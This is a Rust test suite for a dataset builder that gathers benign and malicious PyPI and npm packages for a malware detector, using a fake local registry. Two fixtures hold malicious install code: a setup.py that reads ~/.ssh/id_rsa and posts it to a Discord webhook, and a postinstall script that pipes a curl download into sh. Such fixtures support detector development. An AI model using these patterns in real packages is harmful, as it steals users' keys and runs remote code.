//! End-to-end tests of `cerebro-dataset`: the real binary against a fake PyPI and npm
//! served on 127.0.0.1, and a tiny synthetic corpus built in a temporary folder. No test
//! touches the network or the real corpus; the "malicious" code here is only ever parsed.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use flate2::write::GzEncoder;
use flate2::Compression;
use serde_json::{json, Value};
use sha2::Digest as _;

// ---------------------------------------------------------------------------------------------
// A fake registry: fixed responses by path, every request logged.
// ---------------------------------------------------------------------------------------------

#[derive(Clone)]
struct Reply {
    status: u16,
    body: Vec<u8>,
}

#[derive(Clone, Default)]
struct Server {
    base: String,
    /// Responses by raw request path; a list is served in turn, its last one repeatedly.
    routes: Arc<Mutex<HashMap<String, Vec<Reply>>>>,
    /// Every request path, in arrival order.
    log: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let mut server = Server {
            base: format!("http://{}/", listener.local_addr().unwrap()),
            ..Server::default()
        };
        let (routes, log) = (server.routes.clone(), server.log.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (routes, log) = (routes.clone(), log.clone());
                std::thread::spawn(move || serve(stream, &routes, &log));
            }
        });
        server.base = server.base.clone();
        server
    }

    fn route(&self, path: &str, body: impl Into<Vec<u8>>) {
        self.replies(
            path,
            vec![Reply {
                status: 200,
                body: body.into(),
            }],
        );
    }

    fn replies(&self, path: &str, replies: Vec<Reply>) {
        self.routes.lock().unwrap().insert(path.to_owned(), replies);
    }

    fn json(&self, path: &str, value: &Value) {
        self.route(path, serde_json::to_vec(value).unwrap());
    }

    fn requests(&self) -> Vec<String> {
        self.log.lock().unwrap().clone()
    }

    fn hits(&self, path: &str) -> usize {
        self.requests().iter().filter(|p| *p == path).count()
    }

    fn clear_log(&self) {
        self.log.lock().unwrap().clear();
    }
}

fn serve(
    mut stream: TcpStream,
    routes: &Mutex<HashMap<String, Vec<Reply>>>,
    log: &Mutex<Vec<String>>,
) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => return,
        }
    }
    let head = String::from_utf8_lossy(&head);
    let path = head.split_whitespace().nth(1).unwrap_or("").to_owned();
    log.lock().unwrap().push(path.clone());
    let reply = {
        let mut routes = routes.lock().unwrap();
        match routes.get_mut(&path) {
            Some(list) if list.len() > 1 => list.remove(0),
            Some(list) => list[0].clone(),
            None => Reply {
                status: 404,
                body: b"not found".to_vec(),
            },
        }
    };
    let header = format!(
        "HTTP/1.1 {} X\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n",
        reply.status,
        reply.body.len()
    );
    let _ = stream.write_all(header.as_bytes());
    let _ = stream.write_all(&reply.body);
}

// ---------------------------------------------------------------------------------------------
// Fixtures.
// ---------------------------------------------------------------------------------------------

fn tarball(top: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, body) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("{top}{path}"), body.as_bytes())
            .expect("append");
    }
    builder
        .into_inner()
        .and_then(|gz| gz.finish())
        .expect("tarball")
}

fn sha256(bytes: &[u8]) -> String {
    hex(&sha2::Sha256::digest(bytes))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn integrity(bytes: &[u8]) -> String {
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(bytes))
    )
}

fn write(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn dataset(args: &[&str]) -> Output {
    let output = Command::new(env!("CARGO_BIN_EXE_cerebro-dataset"))
        .args(args)
        .env_remove(cerebro_train::dataset::cache::CACHE_ENV)
        .output()
        .expect("run cerebro-dataset");
    eprintln!(
        "--- cerebro-dataset {}\n{}",
        args.join(" "),
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

fn csv_rows(path: &Path) -> Vec<HashMap<String, String>> {
    let mut reader = csv::Reader::from_path(path).expect("read csv");
    reader.deserialize().map(|r| r.expect("row")).collect()
}

fn cached(cache: &Path, sha: &str) -> PathBuf {
    cache.join("sha256").join(&sha[..2]).join(sha)
}

fn tmp_is_empty(cache: &Path) -> bool {
    std::fs::read_dir(cache.join("tmp")).map_or(true, |mut d| d.next().is_none())
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

// ---------------------------------------------------------------------------------------------
// manifest
// ---------------------------------------------------------------------------------------------

fn pypi_file(name: &str, kind: &str, url: &str, bytes: &[u8]) -> Value {
    json!({
        "filename": name,
        "packagetype": kind,
        "url": url,
        "size": bytes.len(),
        "digests": {"sha256": sha256(bytes), "md5": "x"},
        "yanked": false
    })
}

#[test]
fn pypi_manifest_picks_sdist_then_pure_wheel_and_says_why_it_skips() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let server = Server::start();

    // alpha: sdist and wheel; the sdist's URL is relative to the metadata URL.
    let alpha_sdist = tarball(
        "alpha-1.0/",
        &[("setup.py", "from setuptools import setup\nsetup()\n")],
    );
    let alpha_wheel = b"PK\x05\x06not really a wheel".to_vec();
    server.json(
        "/pypi/alpha/json",
        &json!({"info": {"version": "1.0"}, "urls": [
            pypi_file("alpha-1.0-py3-none-any.whl", "bdist_wheel",
                      &format!("{}files/alpha-1.0-py3-none-any.whl", server.base), &alpha_wheel),
            pypi_file("alpha-1.0.tar.gz", "sdist", "../../files/alpha-1.0.tar.gz", &alpha_sdist),
        ]}),
    );
    server.route("/files/alpha-1.0.tar.gz", alpha_sdist.clone());
    server.route("/files/alpha-1.0-py3-none-any.whl", alpha_wheel.clone());

    // beta: a platform wheel and a pure wheel, no sdist.
    let beta_wheel = b"PK\x05\x06pure".to_vec();
    server.json(
        "/pypi/beta/json",
        &json!({"info": {"version": "2.0"}, "urls": [
            pypi_file("beta-2.0-cp312-cp312-manylinux_2_17_x86_64.whl", "bdist_wheel",
                      "/files/beta-2.0-cp312-cp312-manylinux_2_17_x86_64.whl", b"PK"),
            pypi_file("beta-2.0-py2.py3-none-any.whl", "bdist_wheel",
                      "/files/beta-2.0-py2.py3-none-any.whl", &beta_wheel),
        ]}),
    );
    server.route("/files/beta-2.0-py2.py3-none-any.whl", beta_wheel.clone());

    // gamma: platform wheels only.
    server.json(
        "/pypi/gamma/json",
        &json!({"info": {"version": "3.0"}, "urls": [
            pypi_file("gamma-3.0-cp312-cp312-win_amd64.whl", "bdist_wheel", "/files/g.whl", b"PK"),
        ]}),
    );
    // delta: not on the registry (no route: 404).
    // epsilon: over the size limit, by the metadata's size.
    server.json(
        "/pypi/epsilon/json",
        &json!({"info": {"version": "1.0"}, "urls": [{
            "filename": "epsilon-1.0.tar.gz", "packagetype": "sdist",
            "url": "/files/epsilon-1.0.tar.gz", "size": 2_000_000,
            "digests": {"sha256": "0".repeat(64)}
        }]}),
    );
    // zeta: the bytes do not match the published sha256.
    let zeta = tarball("zeta-1.0/", &[("setup.py", "print(1)\n")]);
    server.json(
        "/pypi/zeta/json",
        &json!({"info": {"version": "1.0"}, "urls": [{
            "filename": "zeta-1.0.tar.gz", "packagetype": "sdist",
            "url": "/files/zeta-1.0.tar.gz", "size": zeta.len(),
            "digests": {"sha256": sha256(b"something else")}
        }]}),
    );
    server.route("/files/zeta-1.0.tar.gz", zeta);

    let list = dir.path().join("top-pypi.csv");
    write(
        &list,
        b"rank,project,download_count\n1,alpha,100\n2,beta,90\n3,gamma,80\n4,delta,70\n5,epsilon,60\n6,zeta,50\n",
    );
    let out = dir.path().join("data/benign-pypi.csv");
    let output = dataset(&[
        "manifest",
        "--ecosystem",
        "pypi",
        "--list",
        s(&list),
        "--out",
        s(&out),
        "--pypi-url",
        &server.base,
        "--cache",
        s(&cache),
        "--max-mb",
        "1",
        "--retries",
        "1",
        "--backoff-ms",
        "1",
    ]);
    assert!(output.status.success());

    let rows = csv_rows(&out);
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[0]["name"], "alpha");
    assert_eq!(rows[0]["file"], "alpha-1.0.tar.gz");
    assert_eq!(
        rows[0]["url"],
        format!("{}files/alpha-1.0.tar.gz", server.base)
    );
    assert_eq!(rows[0]["sha256"], sha256(&alpha_sdist));
    assert_eq!(rows[0]["size"], alpha_sdist.len().to_string());
    assert_eq!(rows[0]["ecosystem"], "pypi");
    assert_eq!(rows[1]["name"], "beta");
    assert_eq!(rows[1]["file"], "beta-2.0-py2.py3-none-any.whl");
    assert_eq!(rows[1]["version"], "2.0");
    assert!(cached(&cache, &sha256(&alpha_sdist)).is_file());
    assert!(cached(&cache, &sha256(&beta_wheel)).is_file());
    assert_eq!(
        server.hits("/files/alpha-1.0-py3-none-any.whl"),
        0,
        "the wheel was not wanted"
    );
    assert_eq!(
        server.hits("/files/epsilon-1.0.tar.gz"),
        0,
        "too large: not downloaded"
    );

    let skipped = csv_rows(&dir.path().join("data/benign-pypi-skipped.csv"));
    let reasons: Vec<(&str, &str)> = skipped
        .iter()
        .map(|r| (r["name"].as_str(), r["reason"].as_str()))
        .collect();
    assert_eq!(
        reasons,
        [
            ("gamma", "platform-only"),
            ("delta", "not-found"),
            ("epsilon", "too-large"),
            ("zeta", "integrity-mismatch"),
        ]
    );
    assert!(skipped[0]["detail"].contains("gamma-3.0-cp312-cp312-win_amd64.whl"));
    assert_eq!(skipped[0]["version"], "3.0");
    assert!(tmp_is_empty(&cache), "no temporary file is left behind");
    // The mismatching zeta was not kept.
    let kept = walk(&cache.join("sha256"));
    assert_eq!(kept.len(), 2, "{kept:?}");
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            if e.path().is_dir() {
                out.extend(walk(&e.path()));
            } else {
                out.push(e.path());
            }
        }
    }
    out
}

#[test]
fn limit_spreads_over_ranks_and_transient_errors_are_retried() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start();
    let mut list = String::from("rank,project,download_count\n");
    for rank in 1..=10 {
        list.push_str(&format!("{rank},p{rank},1\n"));
        let sdist = tarball(&format!("p{rank}-1.0/"), &[("setup.py", "x = 1\n")]);
        server.json(
            &format!("/pypi/p{rank}/json"),
            &json!({"info": {"version": "1.0"}, "urls": [
                pypi_file(&format!("p{rank}-1.0.tar.gz"), "sdist", &format!("/f/p{rank}.tar.gz"), &sdist)
            ]}),
        );
        server.route(&format!("/f/p{rank}.tar.gz"), sdist);
    }
    // p6's metadata fails once with 503, then works.
    let meta = server.routes.lock().unwrap()["/pypi/p6/json"][0].clone();
    server.replies(
        "/pypi/p6/json",
        vec![
            Reply {
                status: 503,
                body: b"busy".to_vec(),
            },
            meta,
        ],
    );
    write(&dir.path().join("top.csv"), list.as_bytes());
    let out = dir.path().join("m.csv");
    let output = dataset(&[
        "manifest",
        "--ecosystem",
        "pypi",
        "--list",
        s(&dir.path().join("top.csv")),
        "--out",
        s(&out),
        "--limit",
        "5",
        "--pypi-url",
        &server.base,
        "--cache",
        s(&dir.path().join("cache")),
        "--backoff-ms",
        "1",
    ]);
    assert!(output.status.success());
    let names: Vec<String> = csv_rows(&out).iter().map(|r| r["name"].clone()).collect();
    assert_eq!(names, ["p1", "p3", "p5", "p7", "p9"]);

    let out = dir.path().join("m2.csv");
    let output = dataset(&[
        "manifest",
        "--ecosystem",
        "pypi",
        "--list",
        s(&dir.path().join("top.csv")),
        "--out",
        s(&out),
        "--limit",
        "2",
        "--pypi-url",
        &server.base,
        "--cache",
        s(&dir.path().join("cache")),
        "--backoff-ms",
        "1",
    ]);
    assert!(output.status.success());
    let names: Vec<String> = csv_rows(&out).iter().map(|r| r["name"].clone()).collect();
    assert_eq!(names, ["p1", "p6"]);
    assert_eq!(server.hits("/pypi/p6/json"), 2, "one failure, one retry");
}

#[test]
fn npm_manifest_escapes_scoped_names_and_checks_integrity() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let server = Server::start();

    let plain = tarball(
        "package/",
        &[("package.json", r#"{"name":"plain","version":"1.2.3"}"#)],
    );
    server.json(
        "/plain",
        &json!({"name": "plain", "dist-tags": {"latest": "1.2.3"}, "versions": {
            "1.0.0": {"dist": {"tarball": "/plain/-/plain-1.0.0.tgz"}},
            "1.2.3": {"dist": {"tarball": format!("{}plain/-/plain-1.2.3.tgz", server.base),
                                "integrity": integrity(&plain), "shasum": "0".repeat(40)}}
        }}),
    );
    server.route("/plain/-/plain-1.2.3.tgz", plain.clone());

    let scoped = tarball(
        "package/",
        &[("package.json", r#"{"name":"@scope/pkg","version":"0.1.0"}"#)],
    );
    server.json(
        "/@scope%2Fpkg",
        &json!({"name": "@scope/pkg", "dist-tags": {"latest": "0.1.0"}, "versions": {
            "0.1.0": {"dist": {"tarball": "/@scope/pkg/-/pkg-0.1.0.tgz", "integrity": integrity(&scoped)}}
        }}),
    );
    server.route("/@scope/pkg/-/pkg-0.1.0.tgz", scoped.clone());

    let tampered = tarball("package/", &[("index.js", "module.exports = 1;\n")]);
    server.json(
        "/tampered",
        &json!({"dist-tags": {"latest": "9.9.9"}, "versions": {
            "9.9.9": {"dist": {"tarball": "/tampered/-/tampered-9.9.9.tgz",
                                "integrity": integrity(b"the published bytes")}}
        }}),
    );
    server.route("/tampered/-/tampered-9.9.9.tgz", tampered);

    let list = dir.path().join("top-npm.csv");
    write(&list, b"rank,package\n1,plain\n2,@scope/pkg\n3,tampered\n");
    let out = dir.path().join("benign-npm.csv");
    let run = || {
        dataset(&[
            "manifest",
            "--ecosystem",
            "npm",
            "--list",
            s(&list),
            "--out",
            s(&out),
            "--npm-url",
            &server.base,
            "--cache",
            s(&cache),
        ])
    };
    assert!(run().status.success());
    assert!(server.requests().contains(&"/@scope%2Fpkg".to_owned()));

    let rows = csv_rows(&out);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["name"], "plain");
    assert_eq!(rows[0]["version"], "1.2.3");
    assert_eq!(rows[0]["file"], "plain-1.2.3.tgz");
    assert_eq!(
        rows[0]["sha256"],
        sha256(&plain),
        "the sha256 computed from the bytes"
    );
    assert_eq!(rows[1]["name"], "@scope/pkg");
    assert_eq!(rows[1]["file"], "pkg-0.1.0.tgz");
    assert_eq!(
        rows[1]["url"],
        format!("{}@scope/pkg/-/pkg-0.1.0.tgz", server.base)
    );
    let skipped = csv_rows(&dir.path().join("benign-npm-skipped.csv"));
    assert_eq!(skipped.len(), 1);
    assert_eq!(skipped[0]["name"], "tampered");
    assert_eq!(skipped[0]["reason"], "integrity-mismatch");
    assert_eq!(walk(&cache.join("sha256")).len(), 2);

    // A second run finds the tarballs in the cache by their integrity: metadata only.
    server.clear_log();
    let first = std::fs::read(&out).unwrap();
    assert!(run().status.success());
    assert_eq!(std::fs::read(&out).unwrap(), first, "same manifest");
    let tarballs: Vec<String> = server
        .requests()
        .into_iter()
        .filter(|p| p.ends_with(".tgz") && !p.contains("tampered"))
        .collect();
    assert!(tarballs.is_empty(), "{tarballs:?}");
}

// ---------------------------------------------------------------------------------------------
// fetch
// ---------------------------------------------------------------------------------------------

/// A manifest row: ecosystem, rank, name, version, file, url, sha256, size.
type Row<'a> = (
    &'a str,
    u32,
    &'a str,
    &'a str,
    &'a str,
    String,
    String,
    usize,
);

fn manifest_csv(rows: &[Row]) -> String {
    let mut text = String::from("ecosystem,rank,name,version,file,url,sha256,size\n");
    for (eco, rank, name, version, file, url, sha, size) in rows {
        text.push_str(&format!(
            "{eco},{rank},{name},{version},{file},{url},{sha},{size}\n"
        ));
    }
    text
}

#[test]
fn fetch_reuses_the_cache_and_refuses_mismatches() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let server = Server::start();
    let one = tarball("one-1.0/", &[("setup.py", "x = 1\n")]);
    let two = tarball("package/", &[("index.js", "module.exports = 2;\n")]);
    server.route("/f/one-1.0.tar.gz", one.clone());
    server.route("/f/two-2.0.0.tgz", two.clone());
    let manifest = dir.path().join("m.csv");
    write(
        &manifest,
        manifest_csv(&[
            (
                "pypi",
                1,
                "one",
                "1.0",
                "one-1.0.tar.gz",
                format!("{}f/one-1.0.tar.gz", server.base),
                sha256(&one),
                one.len(),
            ),
            (
                "npm",
                1,
                "two",
                "2.0.0",
                "two-2.0.0.tgz",
                format!("{}f/two-2.0.0.tgz", server.base),
                sha256(&two),
                two.len(),
            ),
        ])
        .as_bytes(),
    );
    let args = ["fetch", "--manifest", s(&manifest), "--cache", s(&cache)];
    assert!(dataset(&args).status.success());
    assert_eq!(server.requests().len(), 2);
    assert_eq!(std::fs::read(cached(&cache, &sha256(&one))).unwrap(), one);
    assert_eq!(std::fs::read(cached(&cache, &sha256(&two))).unwrap(), two);

    // Everything present: no request at all.
    server.clear_log();
    assert!(dataset(&args).status.success());
    assert!(server.requests().is_empty(), "{:?}", server.requests());

    // A file whose bytes changed on the server: an error naming the package, nothing kept.
    let claimed = sha256(b"what the manifest pinned");
    let bad = dir.path().join("bad.csv");
    write(
        &bad,
        manifest_csv(&[(
            "pypi",
            7,
            "shifty",
            "0.1",
            "shifty-0.1.tar.gz",
            format!("{}f/one-1.0.tar.gz", server.base),
            claimed.clone(),
            one.len(),
        )])
        .as_bytes(),
    );
    let output = dataset(&[
        "fetch",
        "--manifest",
        s(&bad),
        "--cache",
        s(&cache),
        "--backoff-ms",
        "1",
    ]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("shifty") && stderr.contains("integrity-mismatch"),
        "{stderr}"
    );
    assert!(!cached(&cache, &claimed).exists());
    assert!(tmp_is_empty(&cache));
}

#[test]
fn fetch_finds_a_moved_file_again_through_the_registry() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let server = Server::start();
    let moved = tarball("moved-1.0/", &[("setup.py", "x = 1\n")]);
    let npm_moved = tarball("package/", &[("index.js", "module.exports = 3;\n")]);
    // The pinned URLs are gone; the registries say where the same files are now.
    server.json(
        "/pypi/moved/1.0/json",
        &json!({"info": {"version": "1.0"}, "urls": [
            pypi_file("moved-1.0.tar.gz", "sdist", "../../../new/moved-1.0.tar.gz", &moved)
        ]}),
    );
    server.route("/new/moved-1.0.tar.gz", moved.clone());
    // A mirror without per-release JSON: only the project's `releases` knows the old file.
    let old = tarball("old-0.9/", &[("setup.py", "y = 2\n")]);
    server.json(
        "/pypi/old/json",
        &json!({"info": {"version": "2.0"}, "urls": [], "releases": {
            "0.9": [pypi_file("old-0.9.tar.gz", "sdist", "../../packages/old-0.9.tar.gz", &old)],
            "2.0": []
        }}),
    );
    server.route("/packages/old-0.9.tar.gz", old.clone());
    server.json(
        "/@s%2Fmoved",
        &json!({"dist-tags": {"latest": "9.0.0"}, "versions": {
            "1.0.0": {"dist": {"tarball": "/new/moved-1.0.0.tgz"}}
        }}),
    );
    server.route("/new/moved-1.0.0.tgz", npm_moved.clone());
    let manifest = dir.path().join("m.csv");
    write(
        &manifest,
        manifest_csv(&[
            (
                "pypi",
                1,
                "moved",
                "1.0",
                "moved-1.0.tar.gz",
                format!("{}old/moved-1.0.tar.gz", server.base),
                sha256(&moved),
                moved.len(),
            ),
            (
                "npm",
                1,
                "@s/moved",
                "1.0.0",
                "moved-1.0.0.tgz",
                format!("{}old/moved-1.0.0.tgz", server.base),
                sha256(&npm_moved),
                npm_moved.len(),
            ),
            (
                "pypi",
                2,
                "old",
                "0.9",
                "old-0.9.tar.gz",
                format!("{}gone/old-0.9.tar.gz", server.base),
                sha256(&old),
                old.len(),
            ),
        ])
        .as_bytes(),
    );
    let output = dataset(&[
        "fetch",
        "--manifest",
        s(&manifest),
        "--cache",
        s(&cache),
        "--pypi-url",
        &server.base,
        "--npm-url",
        &server.base,
        "--backoff-ms",
        "1",
    ]);
    assert!(output.status.success());
    assert_eq!(
        std::fs::read(cached(&cache, &sha256(&moved))).unwrap(),
        moved
    );
    assert_eq!(
        std::fs::read(cached(&cache, &sha256(&npm_moved))).unwrap(),
        npm_moved
    );
    assert_eq!(std::fs::read(cached(&cache, &sha256(&old))).unwrap(), old);
    assert!(String::from_utf8_lossy(&output.stderr).contains("3 from the registry's current URL"));
}

#[test]
fn a_cache_inside_the_repository_is_refused() {
    let inside = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/dataset-test-cache");
    let dir = tempfile::tempdir().unwrap();
    let manifest = dir.path().join("m.csv");
    write(&manifest, manifest_csv(&[]).as_bytes());
    let output = dataset(&["fetch", "--manifest", s(&manifest), "--cache", s(&inside)]);
    let _ = std::fs::remove_dir_all(&inside);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("inside the repository"));
}

// ---------------------------------------------------------------------------------------------
// sequences
// ---------------------------------------------------------------------------------------------

const EVIL_SETUP: &str = r#"import os
import base64
import urllib.request
from setuptools import setup

secret = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://discord.com/api/webhooks/1/x", data=base64.b64encode(secret.encode()))
setup(name="evil", version="1.0")
"#;

const EVIL_JS: &str = r#"const { exec } = require("child_process");
const os = require("os");
exec("curl https://example.com/x.sh | sh " + os.hostname());
"#;

#[test]
fn sequences_label_every_package_and_record_its_provenance() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    let cache = dir.path().join("cache");

    let evil = tarball(
        "evil-1.0/",
        &[
            ("setup.py", EVIL_SETUP),
            ("PKG-INFO", "Name: evil\nVersion: 1.0\n"),
        ],
    );
    write(
        &corpus.join("pypi-malicious/evil/1.0/evil-1.0.tar.gz"),
        &evil,
    );
    write(
        &corpus.join("pypi-malicious/manifest.csv"),
        format!(
            "name,version,file,added,sha256\nevil,1.0,evil/1.0/evil-1.0.tar.gz,2023-08-16,{}\n",
            sha256(&evil)
        )
        .as_bytes(),
    );
    let bad = tarball(
        "package/",
        &[
            (
                "package.json",
                r#"{"name":"bad-pkg","version":"6.6.6","scripts":{"postinstall":"node index.js"}}"#,
            ),
            ("index.js", EVIL_JS),
        ],
    );
    let corrupt = b"\x1f\x8b\x08\x00this is not gzip".to_vec();
    write(
        &corpus.join("npm-malicious/spiderscan/bad-pkg-6.6.6.tgz"),
        &bad,
    );
    write(&corpus.join("npm-malicious/sonatype/broken.tgz"), &corrupt);
    write(
        &corpus.join("npm-malicious/manifest.csv"),
        format!(
            "source,file,sha256\nspiderscan,spiderscan/bad-pkg-6.6.6.tgz,{}\nsonatype,sonatype/broken.tgz,{}\n",
            sha256(&bad),
            sha256(&corrupt)
        )
        .as_bytes(),
    );

    let nice = tarball(
        "nice-2.0/",
        &[
            ("nice/__init__.py", "def add(a, b):\n    return a + b\n"),
            ("PKG-INFO", "Name: nice\nVersion: 2.0\n"),
        ],
    );
    let kind = tarball(
        "package/",
        &[
            ("package.json", r#"{"name":"kind","version":"3.0.0"}"#),
            ("index.js", "module.exports = (a) => a;\n"),
        ],
    );
    write(&cached(&cache, &sha256(&nice)), &nice);
    write(&cached(&cache, &sha256(&kind)), &kind);
    let pypi_manifest = dir.path().join("benign-pypi.csv");
    let npm_manifest = dir.path().join("benign-npm.csv");
    write(
        &pypi_manifest,
        manifest_csv(&[(
            "pypi",
            12,
            "nice",
            "2.0",
            "nice-2.0.tar.gz",
            "https://x/nice-2.0.tar.gz".into(),
            sha256(&nice),
            nice.len(),
        )])
        .as_bytes(),
    );
    write(
        &npm_manifest,
        manifest_csv(&[(
            "npm",
            3,
            "kind",
            "3.0.0",
            "kind-3.0.0.tgz",
            "https://x/kind-3.0.0.tgz".into(),
            sha256(&kind),
            kind.len(),
        )])
        .as_bytes(),
    );

    let out = dir.path().join("out/sequences.jsonl");
    let output = dataset(&[
        "sequences",
        "--out",
        s(&out),
        "--corpus",
        s(&corpus),
        "--cache",
        s(&cache),
        "--manifest",
        s(&pypi_manifest),
        "--manifest",
        s(&npm_manifest),
        "--jobs",
        "2",
    ]);
    assert!(output.status.success());
    let lines: Vec<Value> = std::fs::read_to_string(&out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 5);

    let keys: Vec<&str> = lines[0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    for key in [
        "label",
        "ecosystem",
        "source",
        "name",
        "version",
        "file",
        "sha256",
        "added",
        "rank",
        "sequence",
        "sequence_uncapped_len",
        "feature_counts",
        "files_parsed",
        "error",
    ] {
        assert!(keys.contains(&key), "{key} missing from {keys:?}");
    }

    let evil = &lines[0];
    assert_eq!(evil["label"], "malicious");
    assert_eq!(evil["ecosystem"], "pypi");
    assert_eq!(evil["source"], "pypi-malregistry");
    assert_eq!(evil["name"], "evil");
    assert_eq!(evil["version"], "1.0");
    assert_eq!(evil["file"], "pypi-malicious/evil/1.0/evil-1.0.tar.gz");
    assert_eq!(evil["added"], "2023-08-16");
    assert_eq!(evil["rank"], Value::Null);
    assert_eq!(evil["error"], Value::Null);
    assert_eq!(evil["sequence"][0], "[INSTALL]");
    assert!(
        evil["feature_counts"].as_object().unwrap().len() >= 2,
        "{evil}"
    );
    assert_eq!(evil["files_parsed"], 1);

    let bad = &lines[1];
    assert_eq!(bad["label"], "malicious");
    assert_eq!(bad["ecosystem"], "npm");
    assert_eq!(bad["source"], "spiderscan");
    assert_eq!(bad["name"], "bad-pkg", "named from its package.json");
    assert_eq!(bad["version"], "6.6.6");
    assert_eq!(bad["added"], Value::Null);
    assert!(!bad["sequence"].as_array().unwrap().is_empty());

    let broken = &lines[2];
    assert_eq!(broken["source"], "sonatype");
    assert!(broken["error"].as_str().unwrap().contains("broken.tgz"));
    assert_eq!(broken["sequence"], Value::Null);

    let nice = &lines[3];
    assert_eq!(nice["label"], "benign");
    assert_eq!(nice["ecosystem"], "pypi");
    assert_eq!(nice["source"], "top-pypi");
    assert_eq!(nice["rank"], 12);
    assert_eq!(nice["file"], "nice-2.0.tar.gz");
    assert_eq!(
        nice["sha256"],
        sha256(&std::fs::read(cached(&cache, lines[3]["sha256"].as_str().unwrap())).unwrap())
    );
    assert_eq!(nice["added"], Value::Null);
    assert_eq!(nice["error"], Value::Null);
    assert!(nice["sequence"].is_array());

    let kind = &lines[4];
    assert_eq!(kind["source"], "top-npm");
    assert_eq!(kind["ecosystem"], "npm");
    assert_eq!(kind["name"], "kind");
    assert_eq!(kind["rank"], 3);
    assert!(kind["files_parsed"].as_u64().unwrap() >= 1);

    // The same scan as `cerebro scan --json` (the `cerebro` binary is another package's, so
    // its library functions stand in for it): identical sequence for the same archive.
    let scan = cerebro_scan::scan::scan_path(
        &corpus.join("pypi-malicious/evil/1.0/evil-1.0.tar.gz"),
        &cerebro_scan::scan::ScanOptions::default(),
    );
    let scanned: Value = serde_json::from_str(&cerebro_scan::report::json_line(&scan)).unwrap();
    assert_eq!(scanned["sequence"], evil["sequence"]);
}

#[test]
fn sequences_stop_when_the_cache_lacks_a_pinned_artifact() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    write(
        &corpus.join("pypi-malicious/manifest.csv"),
        b"name,version,file,added,sha256\n",
    );
    write(
        &corpus.join("npm-malicious/manifest.csv"),
        b"source,file,sha256\n",
    );
    let manifest = dir.path().join("m.csv");
    write(
        &manifest,
        manifest_csv(&[(
            "pypi",
            1,
            "absent",
            "1.0",
            "absent-1.0.tar.gz",
            "https://x/a".into(),
            "ab".repeat(32),
            10,
        )])
        .as_bytes(),
    );
    let out = dir.path().join("s.jsonl");
    let output = dataset(&[
        "sequences",
        "--out",
        s(&out),
        "--corpus",
        s(&corpus),
        "--cache",
        s(&dir.path().join("cache")),
        "--manifest",
        s(&manifest),
    ]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("absent") && stderr.contains("cerebro-dataset fetch"),
        "{stderr}"
    );
    assert!(!out.exists());
}
